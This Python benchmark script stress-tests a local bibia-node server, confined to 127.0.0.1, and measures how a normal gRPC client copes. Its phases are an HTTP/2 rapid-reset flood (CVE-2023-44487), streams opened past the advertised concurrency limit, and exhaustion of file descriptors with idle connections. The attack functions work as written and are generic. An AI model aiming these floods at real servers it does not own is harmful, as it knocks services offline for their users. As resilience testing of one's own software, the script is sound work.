#!/usr/bin/env python3
"""Attacks on one bibia-node, as an anonymous client would make them, and what
a well-behaved client sees meanwhile.

Phases, each bounded in time (--seconds) and in count:
  baseline      the well-behaved client alone
  rapid-reset   HTTP/2 streams opened and reset at once (CVE-2023-44487)
  open-streams  streams opened and left open, beyond the advertised
                SETTINGS_MAX_CONCURRENT_STREAMS
  descriptors   more idle TCP connections than the node's open-files limit,
                then closed; a new client must be served afterwards

For each phase: streams or connections the attacker made, the node's peak
thread count and resident memory (sampled from /proc every 10 ms), and the
well-behaved client's calls (a health check and an authenticated Stats, each
on its own connection opened before the phase), p50 and p99 latency.

Usage (from the repository root, after deploy/build.sh):
  /usr/bin/python3 tests/bench/attack_bench.py [--build build] [--seconds 10]
      [--nofile 1024] [--nofile-hard 65536] [-- NODE FLAGS...]
Needs Debian's python3-h2 and python3-grpcio (installed by
deploy/install-deps.sh). Traffic goes to 127.0.0.1 only.
"""

import argparse
import collections
import os
import resource
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time

import grpc
import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings


def start_node(build, data_dir, nofile, nofile_hard, flags):
    node = os.path.join(build, "node", "bibia-node")
    subprocess.run([node, "init", "--data-dir", data_dir, "--id", "attacked", "--collectivity", "Bench"],
                   check=True, stdout=subprocess.DEVNULL)
    token = subprocess.run([node, "token", "issue", "--data-dir", data_dir, "--subject", "good", "--tier", "public",
                            "--role", "reader"], check=True, capture_output=True, text=True).stdout.strip()
    port_file = os.path.join(data_dir, "port")
    log = open(os.path.join(data_dir, "node.log"), "w")

    def limit_files():
        resource.setrlimit(resource.RLIMIT_NOFILE, (nofile, nofile_hard))

    process = subprocess.Popen([node, "--data-dir", data_dir, "--listen", "127.0.0.1:0", "--port-file", port_file,
                                "--insecure", "--anonymous-rate", "0"] + flags,
                               stdout=log, stderr=subprocess.STDOUT, preexec_fn=limit_files)
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        if os.path.exists(port_file) and open(port_file).read().strip():
            host, port = open(port_file).read().strip().rsplit(":", 1)
            return process, int(port), token
        if process.poll() is not None:
            break
        time.sleep(0.05)
    process.kill()
    sys.exit("bibia-node did not start; see " + log.name)


class Sampler(threading.Thread):
    """Peak Threads and VmRSS of a process, read from /proc every 10 ms."""

    def __init__(self, pid):
        super().__init__(daemon=True)
        self.pid, self.threads, self.rss_kib, self.stop = pid, 0, 0, threading.Event()

    def run(self):
        while not self.stop.is_set():
            try:
                for line in open("/proc/%d/status" % self.pid):
                    key, _, value = line.partition(":")
                    if key == "Threads":
                        self.threads = max(self.threads, int(value))
                    elif key == "VmRSS":
                        self.rss_kib = max(self.rss_kib, int(value.split()[0]))
            except (FileNotFoundError, ProcessLookupError):
                return
            time.sleep(0.01)


class GoodClient(threading.Thread):
    """Calls the node in a loop on connections opened before the attack."""

    def __init__(self, port, token):
        super().__init__(daemon=True)
        self.health = grpc.insecure_channel("127.0.0.1:%d" % port)
        self.catalog = grpc.insecure_channel("127.0.0.1:%d" % port)
        self.token, self.latencies_ms, self.failures, self.stop = token, [], {}, threading.Event()
        self.check = self.health.unary_unary("/grpc.health.v1.Health/Check")
        self.stats = self.catalog.unary_unary("/bibia.v1.Catalog/Stats")
        try:  # both connections up before the attack
            self.check(b"", timeout=10)
            self.stats(b"", timeout=10, metadata=[("authorization", "Bearer " + token)])
        except grpc.RpcError as error:
            self.failures["connect " + error.code().name] = 1

    def run(self):
        calls = 0
        while not self.stop.is_set() and calls < 100000:
            for call, metadata in ((self.check, None), (self.stats, [("authorization", "Bearer " + self.token)])):
                start = time.monotonic()
                try:
                    call(b"", timeout=5, metadata=metadata)
                    self.latencies_ms.append((time.monotonic() - start) * 1000)
                except grpc.RpcError as error:
                    self.failures[error.code().name] = self.failures.get(error.code().name, 0) + 1
                calls += 1
            time.sleep(0.005)

    def close(self):
        self.health.close()
        self.catalog.close()


def percentile(values, p):
    if not values:
        return float("nan")
    values = sorted(values)
    return values[min(len(values) - 1, int(round(p / 100.0 * (len(values) - 1))))]


def h2_connection(port):
    sock = socket.create_connection(("127.0.0.1", port), timeout=5)
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    sock.setblocking(False)
    return sock, conn


def drain(sock, conn):
    """Reads what the node sent; False once it closed the connection."""
    try:
        while True:
            data = sock.recv(65536)
            if not data:
                return False
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ConnectionTerminated):
                    return False
    except BlockingIOError:
        pass
    except (ConnectionError, h2.exceptions.ProtocolError):
        return False
    pending = conn.data_to_send()
    if pending:
        try:
            sock.sendall(pending)
        except (BlockingIOError, ConnectionError):
            return False
    return True


HEADERS = [(":method", "POST"), (":scheme", "http"), (":path", "/bibia.v1.Contribute/Import"),
           (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers")]


def stream_attack(port, seconds, max_streams, reset):
    """Opens streams as fast as one connection can; returns (streams, connections)."""
    deadline, streams, connections = time.monotonic() + seconds, 0, 0
    while time.monotonic() < deadline and streams < max_streams:
        sock, conn = h2_connection(port)
        connections += 1
        alive = True
        while alive and time.monotonic() < deadline and streams < max_streams:
            # An attacker ignores the node's SETTINGS_MAX_CONCURRENT_STREAMS.
            conn.remote_settings._settings[h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS] = \
                collections.deque([2 ** 31 - 1])
            for _ in range(100):
                stream_id = conn.get_next_available_stream_id()
                try:
                    conn.send_headers(stream_id, HEADERS, end_stream=False)
                    if reset:
                        conn.reset_stream(stream_id)
                except h2.exceptions.ProtocolError:
                    alive = False
                    break
                streams += 1
            try:
                sock.sendall(conn.data_to_send())
            except BlockingIOError:
                time.sleep(0.001)
            except ConnectionError:
                alive = False
            alive = alive and drain(sock, conn)
        sock.close()
    return streams, connections


def descriptor_attack(port, seconds, count):
    """Opens `count` idle TCP connections (as many as it can in time), holds
    them a second, closes them; returns how many were accepted by the kernel."""
    held, deadline = [], time.monotonic() + seconds
    while len(held) < count and time.monotonic() < deadline:
        try:
            held.append(socket.create_connection(("127.0.0.1", port), timeout=2))
        except OSError:
            break
    time.sleep(1)
    for sock in held:
        sock.close()
    return len(held)


def run_phase(name, pid, port, token, attack):
    sampler = Sampler(pid)
    sampler.start()
    good = GoodClient(port, token)
    good.start()
    made = attack()
    good.stop.set()
    good.join()
    sampler.stop.set()
    sampler.join()
    good.close()
    failures = ", ".join("%s %d" % kv for kv in sorted(good.failures.items())) or "none"
    print("%-13s %-22s threads max %5d  RSS max %6.1f MiB  good calls %5d ok, failed: %s  p50 %6.2f ms  p99 %7.2f ms"
          % (name, made, sampler.threads, sampler.rss_kib / 1024.0, len(good.latencies_ms), failures,
             percentile(good.latencies_ms, 50), percentile(good.latencies_ms, 99)), flush=True)


def fresh_client_answers(port, token, within_s=60):
    """Whether a client on a new connection is answered, retrying for up to
    `within_s` seconds, and after how long."""
    start, last = time.monotonic(), "?"
    while time.monotonic() - start < within_s:
        channel = grpc.insecure_channel("127.0.0.1:%d" % port)
        try:
            channel.unary_unary("/bibia.v1.Catalog/Stats")(b"", timeout=5,
                                                            metadata=[("authorization", "Bearer " + token)])
            return "yes, after %.1f s" % (time.monotonic() - start)
        except grpc.RpcError as error:
            last = error.code().name
        finally:
            channel.close()
        time.sleep(0.5)
    return "no within %d s (%s)" % (within_s, last)


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--build", default="build")
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--max-streams", type=int, default=200000)
    parser.add_argument("--nofile", type=int, default=1024, help="the node's soft open-files limit")
    parser.add_argument("--nofile-hard", type=int, default=min(65536, resource.getrlimit(resource.RLIMIT_NOFILE)[1]),
                        help="its hard limit (the node raises its soft limit to it; equal to --nofile: no room)")
    parser.add_argument("node_flags", nargs="*")
    args = parser.parse_args()
    data_dir = tempfile.mkdtemp(prefix="bibia-attack-")
    process, port, token = start_node(args.build, os.path.join(data_dir, "node"), args.nofile, args.nofile_hard,
                                  args.node_flags)
    try:
        print("bibia attack bench: %s, %d cores, node open-files limit %d (hard %d), %s s per phase, flags %s"
              % (time.strftime("%Y-%m-%d %H:%M UTC", time.gmtime()), os.cpu_count(), args.nofile, args.nofile_hard,
                 args.seconds,
                 " ".join(args.node_flags) or "(defaults)"), flush=True)
        run_phase("baseline", process.pid, port, token, lambda: (time.sleep(min(args.seconds, 3)), "-")[1])
        run_phase("rapid-reset", process.pid, port, token,
                  lambda: "%d streams / %d conns" % stream_attack(port, args.seconds, args.max_streams, True))
        print("after rapid-reset: a new client is answered: %s" % fresh_client_answers(port, token), flush=True)
        run_phase("open-streams", process.pid, port, token,
                  lambda: "%d streams / %d conns" % stream_attack(port, args.seconds, args.max_streams, False))
        print("after open-streams: a new client is answered: %s" % fresh_client_answers(port, token), flush=True)
        run_phase("descriptors", process.pid, port, token,
                  lambda: "%d idle conns" % descriptor_attack(port, args.seconds, args.nofile + 100))
        answered = fresh_client_answers(port, token)
        state = "running" if process.poll() is None else "exited with code %s" % process.returncode
        print("after descriptors: a new client is answered: %s; node %s" % (answered, state), flush=True)
        watchdog = [line.strip() for line in open(os.path.join(data_dir, "node", "node.log"))
                    if "watchdog" in line or "accept4" in line]
        for line in watchdog[-3:]:
            print("  node log: " + line[:200], flush=True)
    finally:
        process.terminate()
        try:
            process.wait(timeout=15)
        except subprocess.TimeoutExpired:
            process.kill()
        shutil.rmtree(data_dir, ignore_errors=True)


if __name__ == "__main__":
    main()
